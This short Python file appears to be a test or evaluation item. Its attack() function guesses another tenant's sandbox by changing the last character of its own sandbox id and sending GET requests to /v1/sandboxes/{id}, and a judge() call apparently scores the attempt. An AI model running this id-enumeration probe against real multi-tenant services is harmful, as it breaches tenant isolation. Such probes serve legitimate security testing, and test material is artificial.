# aim: find another key's sandbox by its id
# mechanism: ids near to those of one's own
# server: tenancy
# plain: naive

def attack():
    head, tail = mine.sandbox[:-1], mine.sandbox[-1]
    for character in "0123456789abcdefghijklmnopqrstuvwxyz":
        near = head + character
        if near != mine.sandbox and ask("GET", f"/v1/sandboxes/{near}").is_good:
            return f"there is a sandbox {near}"


judge(attack)
